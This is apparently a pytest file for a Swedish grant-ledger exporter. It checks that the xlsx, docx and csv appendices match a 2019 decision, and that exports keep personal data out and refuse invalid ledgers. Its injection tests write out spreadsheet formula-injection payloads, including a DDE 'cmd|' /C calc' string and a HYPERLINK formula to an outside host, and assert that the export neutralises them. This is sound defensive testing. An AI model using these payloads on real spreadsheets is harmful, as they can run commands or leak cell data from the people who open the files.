"""Tests for lumledger.official and the ``rollup``/``export`` commands.

The proof: the example ledger's 2019 round, exported, equals the appendices of the real decision
(``tests/fixtures/beslut-2019-bilaga1.tsv``/``-bilaga2.tsv``, copied from the decision's text)
row by row and in both totals, in the xlsx, the docx and the csv, and as LibreOffice shows the
xlsx with its formulas computed. Then: no ledger text becomes a formula, no personal data leaves
the ledger, an invalid ledger writes nothing, and a failure leaves no half-written file.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import stat
import subprocess
import zipfile
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from lumledger import ledger_format, official
from lumledger.cli import main
from lumledger.ledger import Ledger
from lumledger.money import format_kr
from lumledger.reports import official_files
from lumledger.workbook.reader import read_ledger
from tools import ledger_book, render_docs

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "workbooks" / "lum-exempel.xlsx"
FIXTURES = Path(__file__).resolve().parent / "fixtures"

# Rows where the decision words the co-applicants its own way; lumledger writes the standard
# "Förvaltning (Medsökande A och B)" form there (the amounts and other columns still match).
NONSTANDARD_HEADINGS_B1 = {6, 17, 18}  # 0-based rows: P07, P18, P19
NONSTANDARD_HEADINGS_B2 = {6}  # S07


def decision(name: str) -> list[list[str]]:
    with open(FIXTURES / name, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle, delimiter="\t", quoting=csv.QUOTE_NONE))


BILAGA1 = decision("beslut-2019-bilaga1.tsv")
BILAGA2 = decision("beslut-2019-bilaga2.tsv")


def normalise(text: str) -> str:
    return re.sub(r"[\u00a0\u202f ]+", " ", text).strip()


def assert_matches_decision(
    got: Sequence[Sequence[str]], expected: Sequence[Sequence[str]], skip_first: set[int]
) -> None:
    """Header, every row and the totals row, cell by cell (first column only where standard)."""
    assert len(got) == len(expected)
    for i, (got_row, want_row) in enumerate(zip(got, expected, strict=True)):
        got_cells = [normalise(c) for c in got_row]
        want_cells = [normalise(c) for c in want_row]
        if i - 1 in skip_first:
            got_cells, want_cells = got_cells[1:], want_cells[1:]
        assert got_cells == want_cells, f"rad {i}"


@pytest.fixture(scope="module")
def example() -> Ledger:
    return read_ledger(EXAMPLE)


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory, example: Ledger) -> Path:
    out = tmp_path_factory.mktemp("export")
    official_files.export_year(example, 2019, out)
    return out


# --- a ledger built in code ---------------------------------------------------------------------


def make_ledger(
    path: Path,
    applications: Sequence[Mapping[str, Any]],
    *,
    rounds: Sequence[Mapping[str, Any]] | None = None,
    admins: Sequence[str] = ("Bromma", "Farsta", "Socialförvaltningen"),
) -> Path:
    """A ledger file with the format's columns; text stays text, even "=1+1"."""
    sheets: dict[str, Sequence[Mapping[str, Any]]] = {
        ledger_format.ROUNDS: rounds or [{"År": 2019, "Status": "Beslutad"}],
        ledger_format.ADMINISTRATIONS: [{"Namn": name} for name in admins],
        ledger_format.APPLICATIONS: applications,
    }
    ledger_book.write_ledger(path, sheets)
    return path


PERSON = "Kerstin Persondatasson"
EMAIL = "kerstin.persondatasson@example.se"


def small_rows(**override: Any) -> list[dict[str, Any]]:
    rows = [
        {
            "Id": "2019-P01",
            "År": 2019,
            "Typ": "Projekt",
            "Förvaltning": "Bromma",
            "Medsökande": "Farsta; Socialförvaltningen",
            "Namn": "Boendefrågan",
            "Syfte": "Kartlägga.",
            "Sökt belopp": 300_000,
            "Utvärdering": "Bör delvis beviljas.",
            "Beviljat belopp": 200_000,
            "Kontaktperson": PERSON,
            "E-post": EMAIL,
            "Betalkonto": "Plusgiro 5 55 13-6",
        },
        {
            "Id": "2019-S01",
            "År": 2019,
            "Typ": "Studiebesök",
            "Förvaltning": "Farsta",
            "Namn": "Oslo",
            "Syfte": "Studera mottagandet.",
            "Sökt belopp": 25_000,
            "Beviljat belopp": 25_000,
            "Beslut": "Beviljas sökt summa",
            "Kontaktperson": PERSON,
            "E-post": EMAIL,
        },
    ]
    for row in rows:
        row.update(override)
    return rows


def run(*args: str) -> Any:
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


# --- the tables -----------------------------------------------------------------------------------


def test_official_tables_equal_the_decision(example: Ledger) -> None:
    tables = official.official_tables(example, 2019)
    rows1 = [list(official.BILAGA1_COLUMNS)] + [
        [h, p, a, format_kr(ap), format_kr(g)] for h, p, a, ap, g in tables.bilaga1_rows()
    ]
    label, b, c, applied, granted = tables.bilaga1_total()
    rows1.append([label, b, c, format_kr(applied), format_kr(granted)])
    assert_matches_decision(rows1, BILAGA1, NONSTANDARD_HEADINGS_B1)
    rows2 = [list(official.BILAGA2_COLUMNS)] + [
        [a, p, format_kr(g), d] for a, p, g, d in tables.bilaga2_rows()
    ]
    label, b, total, d = tables.bilaga2_total()
    rows2.append([label, b, format_kr(total, unit=True), d])
    assert_matches_decision(rows2, BILAGA2, NONSTANDARD_HEADINGS_B2)
    assert (tables.project_applied, tables.project_granted) == (10_950_780, 3_175_000)
    assert tables.study_visit_granted == 335_450
    assert tables.applied_total == 11_336_230 and tables.granted_total == 3_510_450
    assert tables.bilaga2_title == "Utvärdering och förslag studiebesök/studieresor 2019"


def test_heading_forms() -> None:
    assert official.applicant_text("Kungsholmen", "Östermalm; Norrmalm") == (
        "Kungsholmen (Medsökande Östermalm och Norrmalm)"
    )
    assert official.applicant_text("Östermalm", "Södermalm;Kungsholmen ; Norrmalm") == (
        "Östermalm (Medsökande Södermalm, Kungsholmen och Norrmalm)"
    )
    assert official.applicant_text("Bromma", "") == "Bromma"
    assert official.place_and_purpose("Malmö", "Hur.") == "Malmö. Hur."
    assert official.place_and_purpose("St. Louis.", "Hur.") == "St. Louis. Hur."
    assert official.place_and_purpose("Oslo", "") == "Oslo"


def test_export_writes_the_four_files(exported: Path) -> None:
    assert sorted(p.name for p in exported.iterdir()) == [
        "bilaga1-2019.csv",
        "bilaga2-2019.csv",
        "fordelning-2019.docx",
        "fordelning-2019.xlsx",
    ]
    for path in exported.iterdir():
        assert path.stat().st_mode & stat.S_IRGRP, f"{path.name} is private (0600)"


# --- xlsx -----------------------------------------------------------------------------------------


def sheet_rows(sheet: Any, first: int) -> list[list[str]]:
    """Rows from ``first`` on as the decision prints them (amounts Swedish style)."""
    out = []
    for row in sheet.iter_rows(min_row=first):
        cells = []
        for cell in row:
            value = cell.value
            if isinstance(value, int | float) and not isinstance(value, bool):
                cells.append(format_kr(int(value)))
            else:
                cells.append("" if value is None else str(value))
        out.append(cells)
    return out


def test_xlsx_equals_the_decision_and_prints(exported: Path) -> None:
    book = openpyxl.load_workbook(exported / "fordelning-2019.xlsx")
    assert book.sheetnames == ["Bilaga 1", "Bilaga 2"]
    b1, b2 = book["Bilaga 1"], book["Bilaga 2"]
    assert b1["A1"].value == "Utvärdering och förslag lokala utvecklingsprojekt"
    assert b2["A1"].value == "Utvärdering och förslag studiebesök/studieresor 2019"

    rows1 = sheet_rows(b1, 2)
    assert rows1[-1][3] == "=SUM(D3:D23)" and rows1[-1][4] == "=SUM(E3:E23)"
    rows1[-1][3:5] = ["10 950 780", "3 175 000"]  # the cached values; LibreOffice test below
    assert_matches_decision(rows1, BILAGA1, NONSTANDARD_HEADINGS_B1)
    rows2 = sheet_rows(b2, 2)
    assert rows2[-1][2] == "=SUM(C3:C18)"
    rows2[-1][2] = "335 450 kr"
    assert_matches_decision(rows2, BILAGA2, NONSTANDARD_HEADINGS_B2)

    for sheet, amount_cols in ((b1, "DE"), (b2, "C")):
        assert sheet.page_setup.orientation == "landscape"
        assert int(sheet.page_setup.paperSize) == 9  # A4
        assert sheet.print_title_rows == "$2:$2"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.freeze_panes == "A3"
        assert sheet["B3"].alignment.wrap_text
        assert (sheet.row_dimensions[3].height or 0) > 20  # wrapped text: taller than a line
        for col in amount_cols:
            assert sheet[f"{col}3"].number_format == "#,##0"
            assert sheet.column_dimensions[col].width >= 10
    assert b2["C19"].number_format == '#,##0 "kr"'


def test_xlsx_totals_have_cached_values(exported: Path) -> None:
    book = openpyxl.load_workbook(exported / "fordelning-2019.xlsx", data_only=True)
    assert (book["Bilaga 1"]["D24"].value, book["Bilaga 1"]["E24"].value) == (
        10_950_780,
        3_175_000,
    )
    assert book["Bilaga 2"]["C19"].value == 335_450


# --- docx -----------------------------------------------------------------------------------------


def test_docx_holds_the_summary_and_both_tables(exported: Path) -> None:
    from docx import Document

    document = Document(str(exported / "fordelning-2019.docx"))
    text = normalise("\n".join(p.text for p in document.paragraphs))
    assert (
        "I årets ansökningsomgång om lokala utvecklingsmedel inkom ansökningar för totalt "
        "11 336 230 kronor (21 utvecklingsprojekt och 16 studiebesök). I detta ärende föreslås "
        "fördelning av lokala utvecklingsmedel samt studiebesök för totalt 3 510 450 kronor."
    ) in text
    bullets = [normalise(p.text) for p in document.paragraphs if p.style.name == "List Bullet"]
    assert bullets == [
        "3 175 000 kronor avsätts till lokala utvecklingsprojekt",
        "335 450 kronor avsätts för studiebesök/studieresor",
    ]
    assert "Bilaga 1" in text and "Bilaga 2" in text
    assert "Utvärdering och förslag studiebesök/studieresor 2019" in text
    table1, table2 = document.tables
    rows1 = [[c.text for c in row.cells] for row in table1.rows]
    rows2 = [[c.text for c in row.cells] for row in table2.rows]
    assert_matches_decision(rows1, BILAGA1, NONSTANDARD_HEADINGS_B1)
    assert_matches_decision(rows2, BILAGA2, NONSTANDARD_HEADINGS_B2)
    # The header row repeats on every page; the tables sit in an A4 landscape section.
    for table in (table1, table2):
        assert table.rows[0]._tr.xpath("./w:trPr/w:tblHeader")
    assert document.core_properties.author == ""
    last = document.sections[-1]
    assert last.page_width > last.page_height
    assert abs(last.page_width.cm - 29.7) < 0.05


# --- csv ------------------------------------------------------------------------------------------


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_csv_equals_the_decision(exported: Path) -> None:
    assert_matches_decision(
        read_csv(exported / "bilaga1-2019.csv"), BILAGA1, NONSTANDARD_HEADINGS_B1
    )
    assert_matches_decision(
        read_csv(exported / "bilaga2-2019.csv"), BILAGA2, NONSTANDARD_HEADINGS_B2
    )
    assert b"\r\n" in (exported / "bilaga1-2019.csv").read_bytes()


# --- LibreOffice: what a spreadsheet program shows -----------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
ALL_SHEETS_CSV = "csv:Text - txt - csv (StarCalc):59,34,UTF8,1,,1053,false,true,true,false,false,-1"


def libreoffice_csv(xlsx: Path, tmp: Path) -> dict[str, list[list[str]]]:
    """Every sheet of ``xlsx`` as LibreOffice shows it (Swedish locale, cells as shown)."""
    out = tmp / "lo-out"
    out.mkdir(exist_ok=True)
    assert SOFFICE is not None
    subprocess.run(
        [
            SOFFICE,
            render_docs.swedish_profile(tmp / "lo-profile"),
            "--headless",
            "--convert-to",
            ALL_SHEETS_CSV,
            "--outdir",
            str(out),
            str(xlsx),
        ],
        check=True,
        capture_output=True,
        timeout=240,
    )
    sheets = {}
    for path in out.glob(f"{xlsx.stem}-*.csv"):
        text = path.read_text(encoding="utf-8")
        sheets[path.stem.removeprefix(f"{xlsx.stem}-")] = list(
            csv.reader(io.StringIO(text), delimiter=";")
        )
    return sheets


def strip_cached_values(source: Path, target: Path) -> None:
    """Copy ``source`` without the formulas' cached values, so the program must compute them."""
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                text = data.decode("utf-8")
                stripped = re.sub(r"(<f>[^<]*</f>)<v>[^<]*</v>", r"\1", text)
                assert stripped != text
                data = stripped.encode("utf-8")
            zout.writestr(info, data)


@pytest.mark.libreoffice
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_shows_the_decision(exported: Path, tmp_path: Path) -> None:
    computed = tmp_path / "fordelning-2019-beraknad.xlsx"
    strip_cached_values(exported / "fordelning-2019.xlsx", computed)
    for xlsx in (exported / "fordelning-2019.xlsx", computed):
        sheets = libreoffice_csv(xlsx, tmp_path)
        assert set(sheets) == {"Bilaga 1", "Bilaga 2"}
        b1 = [row for row in sheets["Bilaga 1"] if any(row)]
        b2 = [row for row in sheets["Bilaga 2"] if any(row)]
        assert b1[0][0] == "Utvärdering och förslag lokala utvecklingsprojekt"
        assert b2[0][0] == "Utvärdering och förslag studiebesök/studieresor 2019"
        assert_matches_decision([r[:5] for r in b1[1:]], BILAGA1, NONSTANDARD_HEADINGS_B1)
        assert_matches_decision([r[:4] for r in b2[1:]], BILAGA2, NONSTANDARD_HEADINGS_B2)
        assert normalise(b1[-1][3]) == "10 950 780" and normalise(b1[-1][4]) == "3 175 000"
        assert normalise(b2[-1][2]) == "335 450 kr"


# --- text never becomes a formula; personal data never leaves -------------------------------------------

TRIGGERS = ("=", "+", "-", "@")


def injection_rows() -> list[dict[str, Any]]:
    rows = []
    for i, trigger in enumerate(TRIGGERS):
        formula = f'{trigger}HYPERLINK("http://example.invalid/?"&A1,"klick")'
        rows.append(
            {
                "Id": f"2019-P{i:02d}",
                "År": 2019,
                "Typ": "Projekt",
                "Förvaltning": "Bromma",
                "Namn": f"{trigger}SUM(1+1)",
                "Syfte": formula,
                "Utvärdering": f"{trigger}cmd|' /C calc'!A0",
                "Sökt belopp": 1000,
                "Beviljat belopp": 0,
                "Kontaktperson": PERSON,
                "E-post": EMAIL,
            }
        )
        rows.append(
            {
                "Id": f"2019-S{i:02d}",
                "År": 2019,
                "Typ": "Studiebesök",
                "Förvaltning": "Farsta",
                "Namn": f"{trigger}1+2",
                "Syfte": "",
                "Sökt belopp": 1000,
                "Beviljat belopp": 0,
                "Beslut": f"{trigger}2+3",
            }
        )
    return rows


def test_no_ledger_text_becomes_a_formula(tmp_path: Path) -> None:
    ledger_path = make_ledger(tmp_path / "liggare.xlsx", injection_rows())
    out = tmp_path / "ut"
    result = run("export", ledger_path, "--year", 2019, "-o", out)
    assert result.exit_code == 0, result.output

    for name in ("fordelning-2019.xlsx",):
        book = openpyxl.load_workbook(out / name)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                        is_total = cell.value.startswith("=SUM(")
                        assert cell.data_type == ("f" if is_total else "s"), cell.coordinate
        texts = [c.value for c in book["Bilaga 1"]["A"] if isinstance(c.value, str)]
        assert "Bromma: =SUM(1+1)" in texts
        syfte = [c.value for c in book["Bilaga 1"]["B"]]
        assert '=HYPERLINK("http://example.invalid/?"&A1,"klick")' in syfte
        decisions = [c.value for c in book["Bilaga 2"]["D"]]
        assert "=2+3" in decisions and "@2+3" in decisions

    rows1 = read_csv(out / "bilaga1-2019.csv")
    rows2 = read_csv(out / "bilaga2-2019.csv")
    for row in rows1[1:-1] + rows2[1:-1]:
        for field in row:
            assert not field.startswith(TRIGGERS), field
    assert '\'=HYPERLINK("http://example.invalid/?"&A1,"klick")' in [r[1] for r in rows1]
    assert "'-cmd|' /C calc'!A0" in [r[2] for r in rows1]
    assert "'@2+3" in [r[3] for r in rows2]
    assert "'+1+2" in [r[1] for r in rows2]

    from docx import Document

    document = Document(str(out / "fordelning-2019.docx"))
    cells = {c.text for t in document.tables for row in t.rows for c in row.cells}
    assert "-cmd|' /C calc'!A0" in cells  # as-is: Word has no formulas
    assert "+1+2" in cells


def unpacked_bytes(path: Path) -> bytes:
    if path.suffix in (".xlsx", ".docx"):
        with zipfile.ZipFile(path) as archive:
            return path.read_bytes() + b"".join(archive.read(n) for n in archive.namelist())
    return path.read_bytes()


def test_no_personal_data_in_any_export(tmp_path: Path) -> None:
    ledger_path = make_ledger(tmp_path / "liggare.xlsx", small_rows())
    out = tmp_path / "ut"
    assert run("export", ledger_path, "--year", 2019, "-o", out).exit_code == 0
    summary = tmp_path / "summering.xlsx"
    assert run("rollup", ledger_path, "-o", summary).exit_code == 0
    files = [*out.iterdir(), summary]
    assert len(files) == 5
    secrets = [PERSON, EMAIL, "Kerstin", "example.se", "5 55 13-6"]
    for path in files:
        data = unpacked_bytes(path)
        for secret in secrets:
            for encoding in ("utf-8", "utf-16-le"):
                assert secret.encode(encoding) not in data, f"{secret} in {path.name}"
    rollup_json = run("rollup", ledger_path, "--json").output
    assert PERSON not in rollup_json and EMAIL not in rollup_json


def test_small_ledger_headings_and_undecided_rows(tmp_path: Path) -> None:
    rows = small_rows()
    rows.append(
        {
            "Id": "2019-P02",
            "År": 2019,
            "Typ": "Projekt",
            "Förvaltning": "socialförvaltningen",  # case as typed; printed as in Förvaltningar
            "Namn": "Ej beslutat",
            "Sökt belopp": 100_000,
        }
    )
    ledger = read_ledger(make_ledger(tmp_path / "liggare.xlsx", rows))
    tables = official.official_tables(ledger, 2019)
    first, second = tables.projects
    assert first.heading == ("Bromma (Medsökande Farsta och Socialförvaltningen): Boendefrågan")
    assert second.heading == "Socialförvaltningen: Ej beslutat" and second.granted is None
    assert tables.bilaga1_total() == ("Summa beviljade medel", "", "", 400_000, 200_000)
    assert tables.study_visits[0].place_and_purpose == "Oslo. Studera mottagandet."
    # Incomplete: refused, nothing written; a draft is written under its own names.
    with pytest.raises(official.IncompleteError) as refused:
        official_files.export_year(ledger, 2019, tmp_path / "ut", formats=("xlsx", "csv"))
    assert refused.value.lines() == ["Ansökningar!M4  2019-P02  Socialförvaltningen: Ej beslutat"]
    assert not (tmp_path / "ut").exists() or not list((tmp_path / "ut").iterdir())
    paths = official_files.export_year(
        ledger, 2019, tmp_path / "ut", formats=("xlsx", "csv"), draft=True
    )
    assert [p.name for p in paths] == [
        "fordelning-2019-utkast.xlsx",
        "bilaga1-2019-utkast.csv",
        "bilaga2-2019-utkast.csv",
    ]
    book = openpyxl.load_workbook(paths[0])
    assert book["Bilaga 1"]["E4"].value is None
    assert book["Bilaga 1"]["A1"].value.startswith("UTKAST – ")
    assert read_csv(paths[1])[2][4] == ""


# --- the commands ---------------------------------------------------------------------------------


def test_export_command_on_the_example(tmp_path: Path) -> None:
    result = run("export", EXAMPLE, "--year", 2019, "-o", tmp_path / "bilagor")
    assert result.exit_code == 0, result.output
    assert "fordelning-2019.xlsx" in result.output
    assert len(list((tmp_path / "bilagor").iterdir())) == 4
    result = run("export", EXAMPLE, "--year", 2019, "-o", tmp_path / "csv", "--format", "csv")
    assert result.exit_code == 0
    assert sorted(p.name for p in (tmp_path / "csv").iterdir()) == [
        "bilaga1-2019.csv",
        "bilaga2-2019.csv",
    ]


def test_export_refuses_an_invalid_ledger_and_writes_nothing(tmp_path: Path) -> None:
    rows = small_rows()
    rows[0]["Beviljat belopp"] = 400_000  # more than applied for: LUM-E008
    ledger_path = make_ledger(tmp_path / "liggare.xlsx", rows)
    out = tmp_path / "ut"
    result = run("export", ledger_path, "--year", 2019, "-o", out)
    assert result.exit_code == 1
    assert "LUM-E008" in result.output and "Ansökningar!" in result.output
    assert "inget har skrivits" in result.output
    assert not out.exists()
    result = run("rollup", ledger_path, "-o", tmp_path / "summering.xlsx")
    assert result.exit_code == 1 and "LUM-E008" in result.output
    assert not (tmp_path / "summering.xlsx").exists()
    result = run("rollup", ledger_path, "--json")
    assert result.exit_code == 1
    payload = json.loads(result.stdout)
    assert payload["findings"][0]["code"] == "LUM-E008"
    assert payload["summary"]["valid"] is False


def test_a_year_without_applications(tmp_path: Path) -> None:
    out = tmp_path / "ut"
    result = run("export", EXAMPLE, "--year", 2018, "-o", out)
    assert result.exit_code == 3  # its own status (README), not 1 = an invalid ledger
    assert "inga ansökningar för år 2018" in result.output
    assert not out.exists()
    result = run("rollup", EXAMPLE, "--year", 2018)
    assert result.exit_code == 3 and "inga ansökningar för år 2018" in result.output


def test_unreadable_and_unwritable(tmp_path: Path) -> None:
    result = run("export", tmp_path / "saknas.xlsx", "--year", 2019, "-o", tmp_path / "ut")
    assert result.exit_code == 2
    blocker = tmp_path / "fil"
    blocker.write_text("inte en mapp")
    result = run("export", EXAMPLE, "--year", 2019, "-o", blocker)
    assert result.exit_code == 2
    assert "inte en mapp" in result.output
    result = run("rollup", EXAMPLE, "-o", tmp_path / "saknad-mapp" / "s.xlsx")
    assert result.exit_code == 2
    result = run("export", EXAMPLE, "--year", 2019, "-o", tmp_path / "x", "--format", "pdf")
    assert result.exit_code == 2 and "okänt format" in result.output
    result = run("rollup", EXAMPLE, "-o", tmp_path / "summering.csv")
    assert result.exit_code == 2 and ".xlsx" in result.output
    assert not (tmp_path / "summering.csv").exists()


def test_a_failure_leaves_no_file(
    tmp_path: Path, example: Ledger, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "ut"
    out.mkdir()
    (out / "bilaga1-2019.csv").write_text("gammal", encoding="utf-8")

    def broken(tables: Any, path: Path, **options: Any) -> Path:
        path.write_bytes(b"halv fil")
        raise RuntimeError("diskfel")

    monkeypatch.setattr(official_files, "write_tables_docx", broken)
    with pytest.raises(RuntimeError):
        official_files.export_year(example, 2019, out)
    # Nothing new, nothing half-written, nothing temporary; the old file is untouched.
    assert [p.name for p in out.iterdir()] == ["bilaga1-2019.csv"]
    assert (out / "bilaga1-2019.csv").read_text(encoding="utf-8") == "gammal"


def test_rollup_command(tmp_path: Path) -> None:
    result = run("rollup", EXAMPLE, "--year", 2019)
    assert result.exit_code == 0, result.output
    assert "10 950 780" in result.output and "335 450" in result.output
    result = run("rollup", EXAMPLE, "--json")
    payload = json.loads(result.stdout)
    assert set(payload) == {"findings", "summary", "rollup"}
    assert payload["rollup"]["years"] == [2019, 2020, 2021]
    assert payload["summary"]["valid"] is True


def test_summary_workbook(tmp_path: Path) -> None:
    target = tmp_path / "summering.xlsx"
    result = run("rollup", EXAMPLE, "-o", target)
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == [
        "Summering",
        "Per förvaltning",
        "Studiebesök",
        "Fleråriga projekt",
        "Diagram 2019",
        "Diagram 2020",
        "Diagram 2021",
    ]
    summary = book["Summering"]
    assert [c.value for c in summary[2]][:6] == [
        "År",
        "Typ",
        "Ansökningar",
        "Förvaltningar",
        "Sökt (kr)",
        "Beviljat (kr)",
    ]
    assert [c.value for c in summary[3]][:6] == [2019, "Projekt", 21, 13, 10_950_780, 3_175_000]
    assert summary["E3"].number_format == "#,##0"
    assert summary["B5"].value == "Summa 2019" and summary["F5"].value == 3_510_450
    assert summary["F5"].font.bold
    assert summary.freeze_panes == "A3"
    assert summary.page_setup.orientation == "landscape" and int(summary.page_setup.paperSize) == 9
    chart_sheet = book["Diagram 2019"]
    assert len(chart_sheet._charts) == 1
    names = [c.value for c in chart_sheet["A"][2:]]
    assert names[0] == "Rinkeby-Kista" and names[-1] == "Summa"
    per_admin = {row[0]: row[1:3] for row in chart_sheet.iter_rows(min_row=3, values_only=True)}
    assert per_admin["Summa"] == (11_336_230, 3_510_450)
    assert sum(v[1] for k, v in per_admin.items() if k != "Summa") == 3_510_450
    visits = book["Studiebesök"]
    assert [c.value for c in visits[3]][:5] == [2019, 16, 11, 385_450, 335_450]
    with zipfile.ZipFile(target) as archive:
        assert any(n.startswith("xl/charts/chart") for n in archive.namelist())


def test_summary_workbook_keeps_text_as_text(tmp_path: Path) -> None:
    rows = small_rows()
    rows[0]["Projekt"] = "=HACK()"
    rows[0]["Namn"] = "=NAMN()"
    rows[0]["Projektår"] = 1
    ledger_path = make_ledger(tmp_path / "liggare.xlsx", rows)
    target = tmp_path / "s.xlsx"
    assert run("rollup", ledger_path, "-o", target).exit_code == 0
    sheet = openpyxl.load_workbook(target)["Fleråriga projekt"]
    # The project by its administration and name; its key (the Projekt column) is not shown.
    assert [sheet["A3"].value, sheet["B3"].value] == ["Bromma", "=NAMN()"]
    assert sheet["B3"].data_type == "s"
    assert "=HACK()" not in [c.value for row in sheet.iter_rows() for c in row]


# --- dockets only when complete (issue 13, point 5) ----------------------------------------------


def _undecided_ledger(tmp_path: Path, *, stated: Mapping[str, Any] | None = None) -> Path:
    """The small ledger, its project 2019-P02 without a proposed amount; ``stated``: a Beslut row
    for the projects."""
    rows = small_rows()
    rows.insert(1, {**rows[0], "Id": "2019-P02", "Namn": "Obeslutat", "Beviljat belopp": None})
    sheets: dict[str, Sequence[Mapping[str, Any]]] = {
        ledger_format.ROUNDS: [{"År": 2019, "Status": "Bedömning"}],
        ledger_format.ADMINISTRATIONS: [
            {"Namn": name} for name in ("Bromma", "Farsta", "Socialförvaltningen")
        ],
        ledger_format.APPLICATIONS: rows,
    }
    if stated is not None:
        sheets[ledger_format.DECISIONS] = [{"År": 2019, "Typ": "Projekt", **stated}]
    path = tmp_path / "liggare.xlsx"
    ledger_book.write_ledger(path, sheets)
    return path


def test_export_refuses_a_year_with_an_application_lacking_its_amount(tmp_path: Path) -> None:
    ledger_path = _undecided_ledger(tmp_path)
    out = tmp_path / "bilagor"
    result = run("export", ledger_path, "--year", 2019, "-o", out)
    assert result.exit_code == 1, result.output  # README: 1 – exporten vägrar
    assert (
        "1 ansökan för 2019 saknar föreslaget eller beviljat belopp (Beviljat belopp är tomt)"
        in result.output
    )
    assert (
        "Ansökningar!M3  2019-P02  Bromma (Medsökande Farsta och Socialförvaltningen): "
        "Obeslutat" in result.output
    )
    assert "inget har skrivits" in result.output and "--utkast" in result.output
    assert not out.exists() or not list(out.iterdir())


def test_a_draft_is_marked_utkast_on_every_sheet_and_page(tmp_path: Path) -> None:
    from docx import Document

    ledger_path = _undecided_ledger(tmp_path)
    out = tmp_path / "bilagor"
    result = run("export", ledger_path, "--year", 2019, "-o", out, "--utkast")
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == [
        "bilaga1-2019-utkast.csv",
        "bilaga2-2019-utkast.csv",
        "fordelning-2019-utkast.docx",
        "fordelning-2019-utkast.xlsx",
    ]
    assert "Belopp saknas för 1 ansökan:" in result.output and "2019-P02" in result.output
    book = openpyxl.load_workbook(out / "fordelning-2019-utkast.xlsx")
    for sheet in book.worksheets:
        assert "UTKAST" in (sheet.oddHeader.center.text or "")
        assert "UTKAST" in (sheet.oddFooter.left.text or "")
        assert sheet["A1"].value.startswith("UTKAST – ")
    assert book.properties.title.startswith("UTKAST – ")
    document = Document(str(out / "fordelning-2019-utkast.docx"))
    assert document.paragraphs[0].text.startswith("UTKAST – ")
    for section in document.sections:  # the landscape section inherits the header and footer
        assert section.header.paragraphs[0].text == "UTKAST"
        assert section.footer.paragraphs[0].text.startswith("UTKAST – Sida")
    # The csv files have no pages: their names say draft, their first row stays the header.
    assert read_csv(out / "bilaga1-2019-utkast.csv")[0] == list(official.BILAGA1_COLUMNS)


def test_a_final_export_carries_no_draft_mark(exported: Path) -> None:
    book = openpyxl.load_workbook(exported / "fordelning-2019.xlsx")
    for sheet in book.worksheets:
        assert "UTKAST" not in (sheet.oddHeader.center.text or "")
        assert "UTKAST" not in (sheet.oddFooter.center.text or "")


def test_export_on_the_example_refuses_2020_and_drafts_it(tmp_path: Path) -> None:
    result = run("export", EXAMPLE, "--year", 2020, "-o", tmp_path / "ut")
    assert result.exit_code == 1
    assert "Ansökningar!M39  2020-P01  Hässelby-Vällingby" in result.output
    assert not (tmp_path / "ut").exists() or not list((tmp_path / "ut").iterdir())
    result = run("export", EXAMPLE, "--year", 2020, "-o", tmp_path / "ut", "--utkast")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "ut" / "fordelning-2020-utkast.docx").exists()


def test_the_summary_states_the_ledgers_counts_and_warns_where_beslut_differs(
    tmp_path: Path,
) -> None:
    from docx import Document

    result = run("export", EXAMPLE, "--year", 2019, "-o", tmp_path / "ut")
    assert result.exit_code == 0, result.output
    assert (
        "Obs: Beslut!C2 anger 23 ansökningar om utvecklingsprojekt 2019, liggaren har 21; "
        "sammanfattningen anger liggarens 21 utvecklingsprojekt."
    ) in result.output
    assert result.output.count("Obs:") == 1  # the study visits and all sums agree
    document = Document(str(tmp_path / "ut" / "fordelning-2019.docx"))
    text = normalise("\n".join(p.text for p in document.paragraphs))
    assert "(21 utvecklingsprojekt och 16 studiebesök)" in text

    ledger = read_ledger(
        _undecided_ledger(
            tmp_path, stated={"Antal ansökningar": 2, "Summa sökt": 600_000, "Summa beviljat": 1}
        )
    )
    tables = official.official_tables(ledger, 2019)
    assert official.stated_differences(ledger, tables) == [
        "Beslut!F2 anger beviljat 1 kr för utvecklingsprojekt 2019, liggaren har 200 000 kr; "
        "sammanfattningen anger liggarens belopp."
    ]


def test_the_readme_states_exactly_which_headings_differ_from_the_decision(
    exported: Path,
) -> None:
    """The README's "rad för rad lika" claim: every cell equals the decision's except the
    headings of the four applications with co-applicants the decision words its own way."""
    differing = set()
    for name, expected in (("bilaga1-2019.csv", BILAGA1), ("bilaga2-2019.csv", BILAGA2)):
        got = read_csv(exported / name)
        assert len(got) == len(expected)
        for i, (got_row, want_row) in enumerate(zip(got, expected, strict=True)):
            assert [normalise(c) for c in got_row[1:]] == [normalise(c) for c in want_row[1:]]
            if normalise(got_row[0]) != normalise(want_row[0]):
                differing.add((name, i - 1))
    ids = {("bilaga1-2019.csv", i): f"P{i + 1:02d}" for i in range(21)} | {
        ("bilaga2-2019.csv", i): f"S{i + 1:02d}" for i in range(16)
    }
    assert sorted(ids[key] for key in differing) == ["P07", "P18", "P19", "S07"]
    readme = " ".join((ROOT / "README.md").read_text(encoding="utf-8").split())
    assert "rad för rad lika med nämndens beslut" in readme
    assert "2019-P07, 2019-P18, 2019-P19 och 2019-S07" in readme
